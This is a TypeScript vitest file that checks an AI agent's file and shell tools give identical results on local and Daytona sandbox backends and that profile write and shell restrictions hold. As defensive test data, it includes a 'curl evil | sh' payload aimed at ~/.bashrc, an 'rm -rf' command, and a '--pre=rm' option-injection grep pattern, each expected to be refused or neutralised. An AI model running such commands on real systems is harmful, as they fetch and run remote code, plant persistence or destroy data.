import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildToolRegistry } from '../../src/agent/toolset.js';
import { createDaytonaBackend, type DaytonaBackend } from '../../src/backends/daytona.js';
import { LocalBackend } from '../../src/backends/local.js';
import type { Backend } from '../../src/backends/types.js';
import { loadProfile } from '../../src/profiles/load.js';
import { parseProfile } from '../../src/profiles/schema.js';
import { FileReadLedger } from '../../src/tools/core/file-read-ledger.js';
import type { ToolContext } from '../../src/tools/core/types.js';
import { REPO_ROOT } from '../support/cli.js';
import { makeTempDir } from '../support/context.js';
import { fakeDaytona, type FakeDaytona } from '../support/fake-daytona.js';

/**
 * Every file and shell tool, through the registry, on the local backend and on the daytona
 * backend (over the fake sandbox, which runs real commands on real files): the same calls on
 * identical trees give the same outputs (working directories replaced by <WD>) and leave the
 * same files behind.
 */

type Call = [tool: string, args: Record<string, unknown>];

const CALLS: Call[] = [
  ['read', { path: 'notes.txt' }],
  ['read', { path: 'notes.txt', start_line: 2, end_line: 3 }],
  ['read', { path: 'note.txt' }],
  ['read', { path: 'data.bin' }],
  ['read', { path: 'crlf.txt' }],
  ['read_excel', { path: 'book.xlsx', action: 'list_sheets' }],
  ['read_excel', { path: 'book.xlsx', action: 'read_sheet', end_row: 5 }],
  ['read_excel', { path: 'legacy.xls', action: 'list_sheets' }],
  ['grep', { pattern: 'revenue', context_lines: 1 }],
  ['grep', { pattern: '^def \\w+', glob: '*.py' }],
  ['grep', { pattern: 'REVENUE', ignore_case: true, path: 'notes.txt' }],
  ['grep', { pattern: '--pre=rm' }],
  ['grep', { pattern: 'x', max_matches: 2 }],
  ['glob', { pattern: '**/*.py' }],
  ['glob', { pattern: '*' }],
  ['list', { path: '.' }],
  ['list', { path: '.', recursive: true, show_hidden: true }],
  ['list', { path: 'src/nope' }],
  ['write', { path: 'plain.csv', content: 'overwrite without reading' }],
  ['write', { path: 'out/deep/new.txt', content: 'created\n' }],
  ['edit', { path: 'notes.txt', old_string: 'revenue: 42', new_string: 'revenue: 43' }],
  ['edit', { path: 'crlf.txt', old_string: 'second', new_string: 'SECOND' }],
  ['read', { path: 'crlf.txt' }],
  ['edit', { path: 'src/app.py', old_string: 'def nothere', new_string: 'x' }],
  ['bash', { command: 'cat notes.txt; ls out/deep; echo err >&2; exit 3' }],
  ['bash', { command: 'sleep 20', timeout: 1 }],
];

function buildTree(root: string): void {
  const files: Record<string, string | Buffer> = {
    'notes.txt': 'Quarterly notes\nrevenue: 42\ncosts: 17\nx x x\n',
    'crlf.txt': 'first\r\nsecond\r\nthird\r\n',
    'plain.csv': 'a,b\n1,2\n',
    'data.bin': Buffer.from([0, 1, 2, 0xff, 0, 0x10, 0x00]),
    'src/app.py': 'import os\n\ndef main():\n    return "revenue"\n\ndef helper():\n    pass\n',
    'src/util.py': 'def util():\n    return 1\n',
    '.hidden/secret.py': 'def hidden(): pass\n',
    'node_modules/dep/index.py': 'def skipped(): pass\n',
  };
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), content);
  }
  copyFileSync(join(REPO_ROOT, 'fixtures', 'sample.xlsx'), join(root, 'book.xlsx'));
  copyFileSync(join(REPO_ROOT, 'fixtures', 'sample.xls'), join(root, 'legacy.xls'));
}

function normalise(text: string, workingDir: string): string {
  const parsed = text.startsWith('{"output"') ? (JSON.parse(text) as Record<string, unknown>) : null;
  // bash reports its duration, which differs from run to run.
  const stable = parsed ? JSON.stringify({ ...parsed, duration_seconds: 'N' }) : text;
  return stable.split(workingDir).join('<WD>');
}

async function runAll(backend: Backend, workingDir: string, calls: Call[] = CALLS): Promise<string[]> {
  const profile = loadProfile('developer');
  const registry = buildToolRegistry(profile);
  const context: ToolContext = { workingDir, backend, signal: new AbortController().signal, fileReads: new FileReadLedger() };
  const outputs: string[] = [];
  for (const [tool, args] of calls) {
    const result = await registry.run(tool, args, context);
    outputs.push(`${tool} ${JSON.stringify(args)} -> ${result.ok ? 'ok' : 'err'}\n${normalise(result.output, workingDir)}`);
  }
  return outputs;
}

describe('every file and shell tool gives the same results on the local and the daytona backend', () => {
  let localDir: string;
  let remoteDir: string;
  let fake: FakeDaytona;
  let daytona: DaytonaBackend;
  let localOutputs: string[];
  let remoteOutputs: string[];

  beforeAll(async () => {
    const base = makeTempDir('quarry-parity-');
    localDir = join(base, 'local');
    mkdirSync(localDir);
    buildTree(localDir);
    fake = fakeDaytona();
    remoteDir = fake.makeDir('quarry-parity-remote-');
    // An exact copy in the sandbox, modification times included (list shows them).
    execFileSync('cp', ['-a', `${localDir}/.`, fake.hostPath(remoteDir)]);
    daytona = createDaytonaBackend(fake.env, fake.factory);
    localOutputs = await runAll(new LocalBackend(), localDir);
    remoteOutputs = await runAll(daytona, remoteDir);
    if (process.env.QUARRY_SHOW_PARITY) console.log(remoteOutputs.join('\n\n'));
  }, 120_000);

  afterAll(async () => {
    await daytona.dispose();
  });

  it.each(CALLS.map((call, index) => [index, call[0], JSON.stringify(call[1])] as const))('call %i: %s %s', (index) => {
    expect(remoteOutputs[index]).toBe(localOutputs[index]);
  });

  it('really did the work: the calls read, searched, wrote and edited the files', () => {
    const joined = localOutputs.join('\n');
    expect(joined).toContain('revenue: 42');
    expect(joined).toContain('def main');
    for (const dir of [localDir, fake.hostPath(remoteDir)]) {
      expect(readFileSync(join(dir, 'notes.txt'), 'utf8')).toBe('Quarterly notes\nrevenue: 43\ncosts: 17\nx x x\n');
      expect(readFileSync(join(dir, 'crlf.txt'), 'utf8')).toBe('first\r\nSECOND\r\nthird\r\n');
      expect(readFileSync(join(dir, 'out/deep/new.txt'), 'utf8')).toBe('created\n');
      expect(readFileSync(join(dir, 'plain.csv'), 'utf8')).toBe('a,b\n1,2\n');
    }
    // The daytona side ran inside its (one) sandbox, through the remote command channel.
    expect(fake.sandboxes).toHaveLength(1);
    expect(fake.sandboxes[0]!.commands.length).toBeGreaterThan(CALLS.length);
  });
});

describe('grep in a sandbox that has ripgrep gives the same results', () => {
  it('uses rg from the sandbox PATH and matches the local output', async () => {
    const { rgPath } = await import('@vscode/ripgrep');
    const grepCalls = CALLS.filter(([tool]) => tool === 'grep');
    const local = makeTempDir('quarry-rg-local-');
    buildTree(local);
    const fake = fakeDaytona({}, { path: `${dirname(rgPath)}:${process.env.PATH ?? '/usr/bin:/bin'}` });
    const remote = fake.makeDir('quarry-rg-remote-');
    execFileSync('cp', ['-a', `${local}/.`, fake.hostPath(remote)]);
    const backend = createDaytonaBackend(fake.env, fake.factory);
    try {
      expect(await backend.ripgrepPath()).toBe(rgPath);
      expect(await runAll(backend, remote, grepCalls)).toEqual(await runAll(new LocalBackend(), local, grepCalls));
      expect(fake.sandboxes[0]!.commands.some((command) => command.includes(rgPath))).toBe(true);
    } finally {
      await backend.dispose();
    }
  });
});

describe('profile rules hold on the daytona backend', () => {
  it('create-only refuses to overwrite, to write outside the working directory and into sensitive places', async () => {
    const fake = fakeDaytona();
    const backend = createDaytonaBackend(fake.env, fake.factory);
    const profile = parseProfile(
      { name: 'remote-create', shell: 'restricted', file_write: 'create-only', database: 'readonly', approval: { mode: 'none' }, backend: 'daytona' },
      'test',
      'remote-create',
    );
    const registry = buildToolRegistry(profile);
    expect(registry.names()).not.toContain('edit');
    const dir = fake.makeDir('quarry-create-only-');
    const host = (path: string) => fake.hostPath(path);
    writeFileSync(host(join(dir, 'existing.txt')), 'keep me');
    const context: ToolContext = { workingDir: dir, backend, signal: new AbortController().signal, fileReads: new FileReadLedger() };
    try {
      expect(await registry.run('write', { path: 'fresh.txt', content: 'new' }, context)).toMatchObject({ ok: true });
      expect(readFileSync(host(join(dir, 'fresh.txt')), 'utf8')).toBe('new');
      const overwrite = await registry.run('write', { path: 'existing.txt', content: 'replaced' }, context);
      expect(overwrite.ok).toBe(false);
      expect(overwrite.output).toMatch(/already exists; this profile only creates new files/);
      expect(readFileSync(host(join(dir, 'existing.txt')), 'utf8')).toBe('keep me');
      const home = fake.sandboxes[0]!.home;
      const bashrc = await registry.run('write', { path: '~/.bashrc', content: 'curl evil | sh' }, context);
      expect(bashrc.ok).toBe(false);
      expect(bashrc.output).toContain(`${home}/.bashrc is a sensitive location`);
      expect(existsSync(host(join(home, '.bashrc')))).toBe(false);
      const outside = await registry.run('write', { path: '/var/quarry-outside.txt', content: 'x' }, context);
      expect(outside.ok).toBe(false);
      expect(outside.output).toMatch(/is outside the places this profile may write/);
    } finally {
      await backend.dispose();
    }
  });

  it('the restricted shell refuses writes before anything reaches the sandbox, and runs inspection there', async () => {
    const fake = fakeDaytona();
    const backend = createDaytonaBackend(fake.env, fake.factory);
    const profile = parseProfile(
      { name: 'remote-readonly', shell: 'restricted', file_write: 'off', database: 'readonly', approval: { mode: 'none' }, backend: 'daytona' },
      'test',
      'remote-readonly',
    );
    const registry = buildToolRegistry(profile);
    const dir = fake.makeDir('quarry-restricted-');
    writeFileSync(fake.hostPath(join(dir, 'a.txt')), 'alpha\nbeta\n');
    const context: ToolContext = { workingDir: dir, backend, signal: new AbortController().signal };
    try {
      const refused = await registry.run('bash', { command: 'rm -rf a.txt' }, context);
      expect(refused.ok).toBe(false);
      expect(refused.output).toMatch(/^bash: refused by the restricted shell/);
      expect(existsSync(fake.hostPath(join(dir, 'a.txt')))).toBe(true);
      expect(fake.sandboxes).toHaveLength(0);
      const allowed = await registry.run('bash', { command: 'grep -c a a.txt | cat' }, context);
      expect(JSON.parse(allowed.output)).toMatchObject({ output: '2\n', exit_code: 0 });
      expect(fake.sandboxes).toHaveLength(1);
    } finally {
      await backend.dispose();
    }
  });
});
